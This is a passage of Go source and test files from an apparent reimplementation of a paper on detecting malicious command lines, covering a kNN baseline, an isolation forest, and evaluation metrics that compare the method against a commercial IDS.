			out[i] = r.Score(x.Row(i))
		}
	})
	return out
}

// MajorityVote is the textbook kNN baseline the paper rejects: the verdict
// of the k nearest neighbours (by cosine similarity) among ALL training
// lines, malicious or benign. Exposed so the ablation experiment can show
// why the modification matters under label noise.
func (r *Retrieval) MajorityVote(row []float64, k int) bool {
	if r.all == nil {
		panic("anomaly: Retrieval.MajorityVote before FitLabeled")
	}
	if k <= 0 {
		k = 1
	}
	if k > r.all.Rows {
		k = r.all.Rows
	}
	type hit struct {
		sim float64
		lab bool
	}
	best := make([]hit, 0, k)
	for i := 0; i < r.all.Rows; i++ {
		sim := linalg.Cosine(r.all.Row(i), row)
		if len(best) < k {
			best = append(best, hit{sim, r.labels[i]})
			sort.Slice(best, func(a, b int) bool { return best[a].sim < best[b].sim })
			continue
		}
		if sim > best[0].sim {
			best[0] = hit{sim, r.labels[i]}
			sort.Slice(best, func(a, b int) bool { return best[a].sim < best[b].sim })
		}
	}
	votes := 0
	for _, h := range best {
		if h.lab {
			votes++
		}
	}
	return votes*2 > len(best)
}
