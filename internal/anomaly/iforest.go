package anomaly

import (
	"fmt"
	"math"
	"math/rand"

	"clmids/internal/tensor"
)

// IsolationForest is the classic Liu–Ting–Zhou detector: an ensemble of
// random partition trees; anomalies isolate in short paths, so the score
// 2^(−E[h(x)]/c(ψ)) is close to 1 for outliers and below ~0.5 for inliers.
type IsolationForest struct {
	// Trees is the ensemble size; default 100.
	Trees int
	// SampleSize ψ is the per-tree subsample; default min(256, n).
	SampleSize int
	// Seed drives subsampling and split selection.
	Seed int64

	trees []*iNode
	cPsi  float64
}

var _ Detector = (*IsolationForest)(nil)

// iNode is one node of an isolation tree. Leaves have nil children and
// carry the number of points that reached them.
type iNode struct {
	feature     int
	split       float64
	left, right *iNode
	size        int
}

// harmonic approximates the n-th harmonic number.
func harmonic(n float64) float64 { return math.Log(n) + 0.5772156649015329 }

// avgPathLength is c(n): the expected path length of an unsuccessful BST
// search over n points, the normalizer from the isolation-forest paper.
func avgPathLength(n int) float64 {
	if n <= 1 {
		return 0
	}
	fn := float64(n)
	return 2*harmonic(fn-1) - 2*(fn-1)/fn
}

// Fit implements Detector.
func (f *IsolationForest) Fit(x *tensor.Matrix) error {
	if x.Rows < 2 {
		return fmt.Errorf("anomaly: IsolationForest needs at least 2 rows")
	}
	trees := f.Trees
	if trees <= 0 {
		trees = 100
	}
	psi := f.SampleSize
	if psi <= 0 || psi > x.Rows {
		psi = 256
		if psi > x.Rows {
			psi = x.Rows
		}
	}
	rng := rand.New(rand.NewSource(f.Seed))
	maxDepth := int(math.Ceil(math.Log2(float64(psi)))) + 1

	f.trees = make([]*iNode, trees)
	f.cPsi = avgPathLength(psi)
	idx := make([]int, x.Rows)
	for i := range idx {
		idx[i] = i
	}
	for t := 0; t < trees; t++ {
		rng.Shuffle(len(idx), func(i, j int) { idx[i], idx[j] = idx[j], idx[i] })
		sample := make([][]float64, psi)
		for i := 0; i < psi; i++ {
			sample[i] = x.Row(idx[i])
		}
		f.trees[t] = buildITree(sample, 0, maxDepth, rng)
	}
	return nil
}

func buildITree(points [][]float64, depth, maxDepth int, rng *rand.Rand) *iNode {
	if len(points) <= 1 || depth >= maxDepth {
		return &iNode{size: len(points)}
	}
	dim := len(points[0])
	// Pick a feature with spread; give up after a few attempts (constant
	// region) and make a leaf.
	for attempt := 0; attempt < 8; attempt++ {
		feat := rng.Intn(dim)
		lo, hi := points[0][feat], points[0][feat]
		for _, p := range points[1:] {
			if p[feat] < lo {
				lo = p[feat]
			}
			if p[feat] > hi {
				hi = p[feat]
			}
		}
		if hi <= lo {
			continue
		}
		split := lo + rng.Float64()*(hi-lo)
		var left, right [][]float64
		for _, p := range points {
			if p[feat] < split {
				left = append(left, p)
			} else {
				right = append(right, p)
			}
		}
		if len(left) == 0 || len(right) == 0 {
			continue
		}
		return &iNode{
			feature: feat,
			split:   split,
			left:    buildITree(left, depth+1, maxDepth, rng),
			right:   buildITree(right, depth+1, maxDepth, rng),
			size:    len(points),
		}
	}
	return &iNode{size: len(points)}
}

// pathLength descends to the leaf for row, adding the leaf-size correction.
func (n *iNode) pathLength(row []float64, depth float64) float64 {
	if n.left == nil {
		return depth + avgPathLength(n.size)
	}
	if row[n.feature] < n.split {
		return n.left.pathLength(row, depth+1)
	}
	return n.right.pathLength(row, depth+1)
}

// Score implements Detector.
func (f *IsolationForest) Score(row []float64) float64 {
	if len(f.trees) == 0 {
		panic("anomaly: IsolationForest.Score before Fit")
	}
	sum := 0.0
	for _, t := range f.trees {
		sum += t.pathLength(row, 0)
	}
	mean := sum / float64(len(f.trees))
	if f.cPsi == 0 {
		return 0
	}
	return math.Pow(2, -mean/f.cPsi)
}
