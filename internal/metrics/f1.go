package metrics

import "fmt"

// F1Comparison is the §V-B analysis: our method versus the commercial IDS
// on the set of our predicted positives. Two views are provided:
//
//   - PaperStyle mirrors the paper's derivation, which must assume the
//     commercial IDS has precision 1.0 and estimate its recall as
//     uS/(xT + u(1−x)S);
//   - Empirical uses the full ground truth available in simulation, which
//     the paper could not afford to label.
type F1Comparison struct {
	PaperStyle MethodF1Pair
	Empirical  MethodF1Pair
}

// MethodF1Pair holds both methods' precision/recall/F1 under one view.
type MethodF1Pair struct {
	Ours F1Stats
	IDS  F1Stats
}

// F1Stats is one method's precision, recall, and F1.
type F1Stats struct {
	Precision float64
	Recall    float64
	F1        float64
}

// f1 computes the harmonic mean, zero-safe.
func f1(p, r float64) float64 {
	if p+r == 0 {
		return 0
	}
	return 2 * p * r / (p + r)
}

// CompareWithIDS reproduces §V-B at a given operating threshold. Items
// should be de-duplicated.
func CompareWithIDS(items []Scored, threshold float64) (F1Comparison, error) {
	var cmp F1Comparison
	c := CountAt(items, threshold)
	if c.PredictedPositive == 0 {
		return cmp, fmt.Errorf("metrics: no predicted positives at threshold %v", threshold)
	}

	// ----- Paper-style estimate (only quantities the paper could measure).
	// u: achieved in-box recall; x: measured PO; T: predicted positives;
	// S: intrusions the commercial IDS spots on the whole test set.
	u := 1.0
	if c.FlaggedTotal > 0 {
		u = float64(c.FlaggedRecalled) / float64(c.FlaggedTotal)
	}
	x := 0.0
	if c.OOBPredicted > 0 {
		x = float64(c.OOBTrue) / float64(c.OOBPredicted)
	}
	T := float64(c.PredictedPositive)
	S := float64(c.FlaggedTotal)

	oursPrecision := float64(c.TruePositive) / T
	// On its own predicted-positive set the method recalls every true
	// positive by construction.
	cmp.PaperStyle.Ours = F1Stats{
		Precision: oursPrecision,
		Recall:    1.0,
		F1:        f1(oursPrecision, 1.0),
	}
	idsRecall := 0.0
	if denom := x*T + u*(1-x)*S; denom > 0 {
		idsRecall = u * S / denom
	}
	cmp.PaperStyle.IDS = F1Stats{
		Precision: 1.0, // the paper's assumption
		Recall:    idsRecall,
		F1:        f1(1.0, idsRecall),
	}

	// ----- Empirical view over the whole item set using ground truth.
	var totalIntrusions, oursTP, oursFP, idsTP, idsFP int
	for _, it := range items {
		if it.TrueIntrusion {
			totalIntrusions++
		}
		if it.Score >= threshold {
			if it.TrueIntrusion {
				oursTP++
			} else {
				oursFP++
			}
		}
		if it.IDSFlagged {
			if it.TrueIntrusion {
				idsTP++
			} else {
				idsFP++
			}
		}
	}
	if totalIntrusions == 0 {
		return cmp, fmt.Errorf("metrics: no true intrusions in the evaluation set")
	}
	op := safeDiv(oursTP, oursTP+oursFP)
	or := safeDiv(oursTP, totalIntrusions)
	ip := safeDiv(idsTP, idsTP+idsFP)
	ir := safeDiv(idsTP, totalIntrusions)
	cmp.Empirical.Ours = F1Stats{Precision: op, Recall: or, F1: f1(op, or)}
	cmp.Empirical.IDS = F1Stats{Precision: ip, Recall: ir, F1: f1(ip, ir)}
	return cmp, nil
}

func safeDiv(a, b int) float64 {
	if b == 0 {
		return 0
	}
	return float64(a) / float64(b)
}

// ROCAUC computes the area under the ROC curve of scores against ground
// truth via the rank statistic (probability a random positive outscores a
// random negative, ties counting half). Used by the ablation benchmarks.
func ROCAUC(items []Scored) (float64, error) {
	var pos, neg []float64
	for _, it := range items {
		if it.TrueIntrusion {
			pos = append(pos, it.Score)
		} else {
			neg = append(neg, it.Score)
		}
	}
	if len(pos) == 0 || len(neg) == 0 {
		return 0, fmt.Errorf("metrics: ROC needs both classes (%d pos, %d neg)", len(pos), len(neg))
	}
	wins := 0.0
	for _, p := range pos {
		for _, n := range neg {
			switch {
			case p > n:
				wins++
			case p == n:
				wins += 0.5
			}
		}
	}
	return wins / float64(len(pos)*len(neg)), nil
}
