// Package metrics implements the paper's evaluation protocol (§V).
//
// Every scored test line carries three bits of context: the method's score,
// the ground-truth label (standing in for the paper's manual labeling of
// predictions), and the commercial IDS verdict. "In-box" intrusions are the
// ones the commercial IDS flags; "out-of-box" intrusions are true intrusions
// it misses. The paper's metrics are:
//
//   - PO@v — precision of the top-v out-of-box predictions (Table II),
//   - PO — out-of-box precision at the threshold that recalls a fraction u
//     (≈100%) of all in-box intrusions (Table I),
//   - PO&I — overall precision at the same threshold (Table I),
//   - the §V-B F1 comparison against the commercial IDS on the
//     predicted-positive set.
package metrics

import (
	"fmt"
	"math"
	"sort"
)

// Scored is one de-duplicated test line with its evaluation context.
type Scored struct {
	// Line is the raw command line (used for de-duplication).
	Line string
	// Score is the method's intrusion score; higher = more suspicious.
	Score float64
	// TrueIntrusion is the ground truth.
	TrueIntrusion bool
	// IDSFlagged is the commercial IDS verdict for the line.
	IDSFlagged bool
}

// Dedup removes duplicate lines, keeping the first occurrence of each, as
// the paper does before computing metrics ("to avoid focusing only on
// common threats").
func Dedup(items []Scored) []Scored {
	seen := make(map[string]bool, len(items))
	out := make([]Scored, 0, len(items))
	for _, it := range items {
		if seen[it.Line] {
			continue
		}
		seen[it.Line] = true
		out = append(out, it)
	}
	return out
}

// ThresholdAtRecall returns the highest score threshold θ such that at
// least a fraction u of IDS-flagged lines satisfy Score >= θ. With u = 1
// this is the minimum score over flagged lines: the paper's operating point
// "guaranteeing almost all in-box intrusions show higher scores".
func ThresholdAtRecall(items []Scored, u float64) (float64, error) {
	if u <= 0 || u > 1 {
		return 0, fmt.Errorf("metrics: recall target %v outside (0,1]", u)
	}
	var flagged []float64
	for _, it := range items {
		if it.IDSFlagged {
			flagged = append(flagged, it.Score)
		}
	}
	if len(flagged) == 0 {
		return 0, fmt.Errorf("metrics: no IDS-flagged lines to anchor the threshold")
	}
	sort.Sort(sort.Reverse(sort.Float64Slice(flagged)))
	need := int(math.Ceil(u * float64(len(flagged))))
	if need < 1 {
		need = 1
	}
	return flagged[need-1], nil
}

// POAtV computes the precision of the top-v out-of-box predictions: rank
// all lines NOT flagged by the commercial IDS by score, take the top v, and
// measure the fraction that are true intrusions (Table II). Ties are broken
// by input order, matching a stable sort over scores.
func POAtV(items []Scored, v int) (float64, error) {
	if v <= 0 {
		return 0, fmt.Errorf("metrics: v must be positive")
	}
	oob := make([]Scored, 0, len(items))
	for _, it := range items {
		if !it.IDSFlagged {
			oob = append(oob, it)
		}
	}
	if len(oob) == 0 {
		return 0, fmt.Errorf("metrics: no out-of-box candidates")
	}
	sort.SliceStable(oob, func(i, j int) bool { return oob[i].Score > oob[j].Score })
	if v > len(oob) {
		v = len(oob)
	}
	hits := 0
	for _, it := range oob[:v] {
		if it.TrueIntrusion {
			hits++
		}
	}
	return float64(hits) / float64(v), nil
}

// Counts aggregates the confusion quantities at a threshold.
type Counts struct {
	// PredictedPositive is the number of lines with Score >= Threshold.
	PredictedPositive int
	// TruePositive counts predicted positives that are true intrusions.
	TruePositive int
	// OOBPredicted counts predicted positives not flagged by the IDS.
	OOBPredicted int
	// OOBTrue counts OOBPredicted lines that are true intrusions.
	OOBTrue int
	// FlaggedTotal is the number of IDS-flagged lines overall.
	FlaggedTotal int
	// FlaggedRecalled counts flagged lines with Score >= Threshold.
	FlaggedRecalled int
}

// CountAt tallies the confusion quantities at threshold θ.
func CountAt(items []Scored, threshold float64) Counts {
	var c Counts
	for _, it := range items {
		if it.IDSFlagged {
			c.FlaggedTotal++
		}
		if it.Score < threshold {
			continue
		}
		c.PredictedPositive++
		if it.TrueIntrusion {
			c.TruePositive++
		}
		if it.IDSFlagged {
			c.FlaggedRecalled++
		} else {
			c.OOBPredicted++
			if it.TrueIntrusion {
				c.OOBTrue++
			}
		}
	}
	return c
}

// Report holds the Table I / Table II numbers for one method on one run.
type Report struct {
	// Threshold is the operating point derived from the in-box recall
	// target.
	Threshold float64
	// PO is the out-of-box precision at Threshold.
	PO float64
	// POAndI is the overall precision at Threshold.
	POAndI float64
	// POAt maps v -> PO@v.
	POAt map[int]float64
	// InBoxRecall is the achieved recall of IDS-flagged lines.
	InBoxRecall float64
	// Counts carries the raw tallies behind the ratios.
	Counts Counts
}

// Evaluate computes the full paper protocol for one method: threshold at
// in-box recall u, then PO, PO&I, and PO@v for each requested v. Items
// should already be de-duplicated.
func Evaluate(items []Scored, u float64, vs []int) (Report, error) {
	var rep Report
	th, err := ThresholdAtRecall(items, u)
	if err != nil {
		return rep, err
	}
	rep.Threshold = th
	rep.Counts = CountAt(items, th)
	if rep.Counts.PredictedPositive > 0 {
		rep.POAndI = float64(rep.Counts.TruePositive) / float64(rep.Counts.PredictedPositive)
	}
	if rep.Counts.OOBPredicted > 0 {
		rep.PO = float64(rep.Counts.OOBTrue) / float64(rep.Counts.OOBPredicted)
	}
	if rep.Counts.FlaggedTotal > 0 {
		rep.InBoxRecall = float64(rep.Counts.FlaggedRecalled) / float64(rep.Counts.FlaggedTotal)
	}
	rep.POAt = make(map[int]float64, len(vs))
	for _, v := range vs {
		p, err := POAtV(items, v)
		if err != nil {
			return rep, err
		}
		rep.POAt[v] = p
	}
	return rep, nil
}

// MeanStd returns the mean and (population) standard deviation, the "avg ±
// std over five runs" format of Table I/II.
func MeanStd(xs []float64) (mean, std float64) {
	if len(xs) == 0 {
		return 0, 0
	}
	for _, v := range xs {
		mean += v
	}
	mean /= float64(len(xs))
	for _, v := range xs {
		std += (v - mean) * (v - mean)
	}
	std = math.Sqrt(std / float64(len(xs)))
	return mean, std
}
