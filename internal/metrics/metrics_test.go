package metrics

import (
	"math"
	"testing"
)

// mk builds a Scored quickly.
func mk(line string, score float64, intr, flagged bool) Scored {
	return Scored{Line: line, Score: score, TrueIntrusion: intr, IDSFlagged: flagged}
}

func TestDedup(t *testing.T) {
	items := []Scored{
		mk("a", 1, false, false),
		mk("b", 2, true, true),
		mk("a", 3, false, false), // duplicate line, later score ignored
	}
	out := Dedup(items)
	if len(out) != 2 {
		t.Fatalf("dedup kept %d, want 2", len(out))
	}
	if out[0].Score != 1 {
		t.Errorf("dedup must keep the first occurrence")
	}
}

func TestThresholdAtRecall(t *testing.T) {
	items := []Scored{
		mk("f1", 0.9, true, true),
		mk("f2", 0.8, true, true),
		mk("f3", 0.5, true, true),
		mk("f4", 0.2, true, true),
		mk("b1", 0.1, false, false),
	}
	th, err := ThresholdAtRecall(items, 1.0)
	if err != nil {
		t.Fatal(err)
	}
	if th != 0.2 {
		t.Errorf("u=1 threshold = %v, want 0.2 (min flagged score)", th)
	}
	th, err = ThresholdAtRecall(items, 0.5)
	if err != nil {
		t.Fatal(err)
	}
	if th != 0.8 {
		t.Errorf("u=0.5 threshold = %v, want 0.8", th)
	}
	if _, err := ThresholdAtRecall(items, 0); err == nil {
		t.Error("u=0 accepted")
	}
	if _, err := ThresholdAtRecall([]Scored{mk("x", 1, false, false)}, 1); err == nil {
		t.Error("no flagged lines accepted")
	}
}

func TestPOAtV(t *testing.T) {
	// Out-of-box candidates are the unflagged ones; 3 of the top 4 by score
	// are true intrusions.
	items := []Scored{
		mk("in1", 10, true, true), // flagged: excluded from PO@v ranking
		mk("o1", 9, true, false),
		mk("o2", 8, true, false),
		mk("o3", 7, false, false),
		mk("o4", 6, true, false),
		mk("o5", 5, false, false),
	}
	p, err := POAtV(items, 4)
	if err != nil {
		t.Fatal(err)
	}
	if math.Abs(p-0.75) > 1e-12 {
		t.Errorf("PO@4 = %v, want 0.75", p)
	}
	// v larger than candidates clamps.
	p, err = POAtV(items, 100)
	if err != nil {
		t.Fatal(err)
	}
	if math.Abs(p-0.6) > 1e-12 {
		t.Errorf("PO@100 (clamped to 5) = %v, want 0.6", p)
	}
	if _, err := POAtV(items, 0); err == nil {
		t.Error("v=0 accepted")
	}
	if _, err := POAtV([]Scored{mk("x", 1, true, true)}, 1); err == nil {
		t.Error("no out-of-box candidates accepted")
	}
}

func TestEvaluateFullProtocol(t *testing.T) {
	// 2 in-box intrusions (flagged), 2 out-of-box intrusions, 6 benign.
	items := []Scored{
		mk("in1", 0.95, true, true),
		mk("in2", 0.90, true, true),
		mk("oob1", 0.93, true, false),
		mk("oob2", 0.91, true, false),
		mk("ben1", 0.92, false, false), // a false positive above threshold
		mk("ben2", 0.10, false, false),
		mk("ben3", 0.20, false, false),
		mk("ben4", 0.15, false, false),
		mk("ben5", 0.05, false, false),
		mk("ben6", 0.08, false, false),
	}
	rep, err := Evaluate(items, 1.0, []int{1, 3})
	if err != nil {
		t.Fatal(err)
	}
	// Threshold = 0.90; predicted positives: in1,in2,oob1,oob2,ben1 (5).
	if rep.Threshold != 0.90 {
		t.Fatalf("threshold = %v", rep.Threshold)
	}
	if rep.Counts.PredictedPositive != 5 || rep.Counts.TruePositive != 4 {
		t.Fatalf("counts = %+v", rep.Counts)
	}
	if math.Abs(rep.POAndI-0.8) > 1e-12 {
		t.Errorf("PO&I = %v, want 0.8", rep.POAndI)
	}
	// Out-of-box predicted: oob1, oob2, ben1 -> PO = 2/3.
	if math.Abs(rep.PO-2.0/3) > 1e-12 {
		t.Errorf("PO = %v, want 2/3", rep.PO)
	}
	if rep.InBoxRecall != 1.0 {
		t.Errorf("in-box recall = %v", rep.InBoxRecall)
	}
	// PO@1: top unflagged is oob1 (0.93) -> 1.0.
	if rep.POAt[1] != 1.0 {
		t.Errorf("PO@1 = %v", rep.POAt[1])
	}
	// PO@3: oob1, ben1, oob2 -> 2/3.
	if math.Abs(rep.POAt[3]-2.0/3) > 1e-12 {
		t.Errorf("PO@3 = %v", rep.POAt[3])
	}
}

func TestMeanStd(t *testing.T) {
	m, s := MeanStd([]float64{1, 2, 3, 4})
	if math.Abs(m-2.5) > 1e-12 || math.Abs(s-math.Sqrt(1.25)) > 1e-12 {
		t.Errorf("MeanStd = %v ± %v", m, s)
	}
	m, s = MeanStd(nil)
	if m != 0 || s != 0 {
		t.Error("empty MeanStd should be 0,0")
	}
}

func TestCompareWithIDSPaperNumbers(t *testing.T) {
	// Reconstruct the paper's own numbers: PO&I = 0.994 implies ours F1 =
	// 99.7%; with u=1, x=0.832 and the paper's S,T proportions the IDS
	// recall lands near 97.4%. Build a synthetic set with those properties:
	// S = 900 in-box intrusions, 139 out-of-box predictions of which
	// x ≈ 0.832 are true.
	var items []Scored
	for i := 0; i < 900; i++ {
		items = append(items, mk(key("in", i), 1.0, true, true))
	}
	for i := 0; i < 116; i++ {
		items = append(items, mk(key("oob", i), 0.9, true, false))
	}
	for i := 0; i < 23; i++ {
		items = append(items, mk(key("fp", i), 0.9, false, false))
	}
	for i := 0; i < 5000; i++ {
		items = append(items, mk(key("ben", i), 0.0, false, false))
	}
	cmp, err := CompareWithIDS(items, 0.9)
	if err != nil {
		t.Fatal(err)
	}
	ours := cmp.PaperStyle.Ours
	ids := cmp.PaperStyle.IDS
	if ours.Recall != 1.0 {
		t.Errorf("ours recall = %v", ours.Recall)
	}
	if ours.Precision < 0.97 || ours.Precision > 1.0 {
		t.Errorf("ours precision = %v", ours.Precision)
	}
	if ours.F1 < 0.98 {
		t.Errorf("ours F1 = %v, want ~0.99+", ours.F1)
	}
	if ids.Recall < 0.85 || ids.Recall >= 1.0 {
		t.Errorf("ids recall = %v, want < 1", ids.Recall)
	}
	if ours.F1 <= ids.F1 {
		t.Errorf("paper ordering violated: ours %v <= ids %v", ours.F1, ids.F1)
	}
	// The empirical view must agree on the ordering here (IDS misses all
	// out-of-box intrusions).
	if cmp.Empirical.Ours.F1 <= cmp.Empirical.IDS.F1 {
		t.Errorf("empirical ordering violated: %v <= %v",
			cmp.Empirical.Ours.F1, cmp.Empirical.IDS.F1)
	}
}

func key(p string, i int) string { return p + "-" + string(rune('a'+i%26)) + itoa(i) }

func itoa(i int) string {
	if i == 0 {
		return "0"
	}
	var b []byte
	for i > 0 {
		b = append([]byte{byte('0' + i%10)}, b...)
		i /= 10
	}
	return string(b)
}

func TestCompareWithIDSErrors(t *testing.T) {
	items := []Scored{mk("a", 0.1, false, false)}
	if _, err := CompareWithIDS(items, 0.5); err == nil {
		t.Error("no predicted positives accepted")
	}
	items = []Scored{mk("a", 1.0, false, true)}
	if _, err := CompareWithIDS(items, 0.5); err == nil {
		t.Error("no true intrusions accepted")
	}
}

func TestROCAUC(t *testing.T) {
	items := []Scored{
		mk("p1", 0.9, true, false),
		mk("p2", 0.8, true, false),
		mk("n1", 0.1, false, false),
		mk("n2", 0.2, false, false),
	}
	auc, err := ROCAUC(items)
	if err != nil {
		t.Fatal(err)
	}
	if auc != 1.0 {
		t.Errorf("AUC = %v, want 1.0", auc)
	}
	// Ties count half.
	items = []Scored{mk("p", 0.5, true, false), mk("n", 0.5, false, false)}
	auc, err = ROCAUC(items)
	if err != nil {
		t.Fatal(err)
	}
	if auc != 0.5 {
		t.Errorf("tied AUC = %v, want 0.5", auc)
	}
	if _, err := ROCAUC([]Scored{mk("p", 1, true, false)}); err == nil {
		t.Error("single-class AUC accepted")
	}
}
