package metrics

import (
	"fmt"
	"math/rand"
	"reflect"
	"testing"
	"testing/quick"
)

// genScored builds a random evaluation set that always contains at least
// one flagged line and both classes.
func genScored(r *rand.Rand) []Scored {
	n := 5 + r.Intn(60)
	items := make([]Scored, n)
	for i := range items {
		items[i] = Scored{
			Line:          fmt.Sprintf("line-%d", r.Intn(n)), // duplicates on purpose
			Score:         r.Float64(),
			TrueIntrusion: r.Intn(6) == 0,
			IDSFlagged:    r.Intn(8) == 0,
		}
	}
	items[0].IDSFlagged = true
	items[0].TrueIntrusion = true
	items[1].TrueIntrusion = false
	items[1].IDSFlagged = false
	return items
}

func quickCfg() *quick.Config {
	return &quick.Config{
		MaxCount: 200,
		Values: func(values []reflect.Value, r *rand.Rand) {
			values[0] = reflect.ValueOf(genScored(r))
		},
	}
}

// TestQuickDedupIdempotent: Dedup is idempotent and never increases size.
func TestQuickDedupIdempotent(t *testing.T) {
	prop := func(items []Scored) bool {
		once := Dedup(items)
		twice := Dedup(once)
		if len(once) > len(items) || len(twice) != len(once) {
			return false
		}
		return reflect.DeepEqual(once, twice)
	}
	if err := quick.Check(prop, quickCfg()); err != nil {
		t.Fatal(err)
	}
}

// TestQuickThresholdRecallMonotone: the threshold at u=1 never exceeds the
// threshold at u=0.5, and both actually achieve their recall target.
func TestQuickThresholdRecallMonotone(t *testing.T) {
	prop := func(items []Scored) bool {
		t1, err := ThresholdAtRecall(items, 1.0)
		if err != nil {
			return false
		}
		t05, err := ThresholdAtRecall(items, 0.5)
		if err != nil {
			return false
		}
		if t1 > t05 {
			return false
		}
		c := CountAt(items, t1)
		return c.FlaggedRecalled == c.FlaggedTotal
	}
	if err := quick.Check(prop, quickCfg()); err != nil {
		t.Fatal(err)
	}
}

// TestQuickPOAtVBounds: PO@v is a valid probability and PO@len equals the
// overall out-of-box intrusion fraction.
func TestQuickPOAtVBounds(t *testing.T) {
	prop := func(items []Scored) bool {
		oobTotal, oobIntr := 0, 0
		for _, it := range items {
			if !it.IDSFlagged {
				oobTotal++
				if it.TrueIntrusion {
					oobIntr++
				}
			}
		}
		if oobTotal == 0 {
			return true
		}
		for _, v := range []int{1, 3, oobTotal, oobTotal + 50} {
			p, err := POAtV(items, v)
			if err != nil || p < 0 || p > 1 {
				return false
			}
			if v >= oobTotal && p != float64(oobIntr)/float64(oobTotal) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(prop, quickCfg()); err != nil {
		t.Fatal(err)
	}
}

// TestQuickEvaluateConsistency: PO&I and PO are consistent with the raw
// counts, and predicted positives bound true positives.
func TestQuickEvaluateConsistency(t *testing.T) {
	prop := func(items []Scored) bool {
		dd := Dedup(items)
		rep, err := Evaluate(dd, 1.0, []int{1})
		if err != nil {
			// Some random sets legitimately have no out-of-box candidates.
			return true
		}
		c := rep.Counts
		if c.TruePositive > c.PredictedPositive || c.OOBTrue > c.OOBPredicted {
			return false
		}
		if c.PredictedPositive > 0 {
			want := float64(c.TruePositive) / float64(c.PredictedPositive)
			if rep.POAndI != want {
				return false
			}
		}
		if c.OOBPredicted > 0 {
			want := float64(c.OOBTrue) / float64(c.OOBPredicted)
			if rep.PO != want {
				return false
			}
		}
		return rep.InBoxRecall == 1.0
	}
	if err := quick.Check(prop, quickCfg()); err != nil {
		t.Fatal(err)
	}
}
