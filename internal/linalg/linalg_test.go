package linalg

import (
	"math"
	"math/rand"
	"reflect"
	"testing"
	"testing/quick"

	"clmids/internal/tensor"
)

func randSym(r *rand.Rand, n int) *tensor.Matrix {
	m := tensor.NewMatrix(n, n)
	for i := 0; i < n; i++ {
		for j := i; j < n; j++ {
			v := r.NormFloat64()
			m.Set(i, j, v)
			m.Set(j, i, v)
		}
	}
	return m
}

func TestSymEigKnown(t *testing.T) {
	// [[2,1],[1,2]] has eigenvalues 3 and 1.
	a := tensor.FromSlice(2, 2, []float64{2, 1, 1, 2})
	vals, vecs, err := SymEig(a)
	if err != nil {
		t.Fatal(err)
	}
	if math.Abs(vals[0]-3) > 1e-10 || math.Abs(vals[1]-1) > 1e-10 {
		t.Fatalf("eigenvalues = %v, want [3 1]", vals)
	}
	// First eigenvector is (1,1)/sqrt2 up to sign.
	v0 := []float64{vecs.At(0, 0), vecs.At(1, 0)}
	if math.Abs(math.Abs(v0[0])-1/math.Sqrt2) > 1e-10 || math.Abs(v0[0]-v0[1]) > 1e-10 {
		t.Fatalf("first eigenvector = %v", v0)
	}
}

func TestSymEigErrors(t *testing.T) {
	if _, _, err := SymEig(tensor.NewMatrix(2, 3)); err == nil {
		t.Error("non-square accepted")
	}
	asym := tensor.FromSlice(2, 2, []float64{1, 2, 3, 4})
	if _, _, err := SymEig(asym); err == nil {
		t.Error("asymmetric accepted")
	}
}

// TestQuickSymEigProperties verifies A·v = λ·v, orthonormality of the
// eigenvector basis, and descending eigenvalue order on random symmetric
// matrices.
func TestQuickSymEigProperties(t *testing.T) {
	cfg := &quick.Config{
		MaxCount: 40,
		Values: func(values []reflect.Value, r *rand.Rand) {
			values[0] = reflect.ValueOf(randSym(r, 2+r.Intn(12)))
		},
	}
	prop := func(a *tensor.Matrix) bool {
		n := a.Rows
		vals, vecs, err := SymEig(a)
		if err != nil {
			return false
		}
		for i := 1; i < n; i++ {
			if vals[i] > vals[i-1]+1e-9 {
				t.Logf("eigenvalues not descending: %v", vals)
				return false
			}
		}
		// A·V = V·diag(vals)
		av := tensor.MatMul(a, vecs)
		for c := 0; c < n; c++ {
			for r := 0; r < n; r++ {
				want := vecs.At(r, c) * vals[c]
				if math.Abs(av.At(r, c)-want) > 1e-7 {
					t.Logf("A·v != λ·v at (%d,%d): %v vs %v", r, c, av.At(r, c), want)
					return false
				}
			}
		}
		// VᵀV = I
		vtv := tensor.NewMatrix(n, n)
		tensor.MatMulATBInto(vecs, vecs, vtv)
		for i := 0; i < n; i++ {
			for j := 0; j < n; j++ {
				want := 0.0
				if i == j {
					want = 1
				}
				if math.Abs(vtv.At(i, j)-want) > 1e-8 {
					t.Logf("VᵀV not identity at (%d,%d): %v", i, j, vtv.At(i, j))
					return false
				}
			}
		}
		return true
	}
	if err := quick.Check(prop, cfg); err != nil {
		t.Fatal(err)
	}
}

func TestQuickSVDReconstructs(t *testing.T) {
	cfg := &quick.Config{
		MaxCount: 30,
		Values: func(values []reflect.Value, r *rand.Rand) {
			cols := 2 + r.Intn(6)
			rows := cols + r.Intn(10)
			m := tensor.NewMatrix(rows, cols)
			for i := range m.Data {
				m.Data[i] = r.NormFloat64()
			}
			values[0] = reflect.ValueOf(m)
		},
	}
	prop := func(a *tensor.Matrix) bool {
		u, s, v, err := SVDThin(a)
		if err != nil {
			return false
		}
		for i := 1; i < len(s); i++ {
			if s[i] > s[i-1]+1e-9 {
				return false
			}
		}
		// A ≈ U·diag(s)·Vᵀ
		us := u.Clone()
		for j := 0; j < us.Cols; j++ {
			for i := 0; i < us.Rows; i++ {
				us.Set(i, j, us.At(i, j)*s[j])
			}
		}
		rec := tensor.NewMatrix(a.Rows, a.Cols)
		tensor.MatMulABTInto(us, v, rec)
		for i := range a.Data {
			if math.Abs(rec.Data[i]-a.Data[i]) > 1e-6 {
				t.Logf("reconstruction off at %d: %v vs %v", i, rec.Data[i], a.Data[i])
				return false
			}
		}
		return true
	}
	if err := quick.Check(prop, cfg); err != nil {
		t.Fatal(err)
	}
}

func TestSVDThinRejectsWide(t *testing.T) {
	if _, _, _, err := SVDThin(tensor.NewMatrix(2, 5)); err == nil {
		t.Fatal("wide matrix accepted")
	}
}

func TestVectorHelpers(t *testing.T) {
	a := []float64{1, 0}
	b := []float64{0, 1}
	if Dot(a, b) != 0 {
		t.Error("Dot orthogonal != 0")
	}
	if Cosine(a, a) != 1 {
		t.Error("Cosine self != 1")
	}
	if Cosine(a, []float64{0, 0}) != 0 {
		t.Error("Cosine with zero vector should be 0")
	}
	if math.Abs(Euclidean(a, b)-math.Sqrt2) > 1e-12 {
		t.Error("Euclidean wrong")
	}
	if Norm([]float64{3, 4}) != 5 {
		t.Error("Norm wrong")
	}
}

// lowRankData builds points concentrated near a low-dimensional subspace
// plus a few far-off anomalies.
func lowRankData(r *rand.Rand, n, d, rank int, anomalies int) *tensor.Matrix {
	basis := tensor.NewMatrix(rank, d)
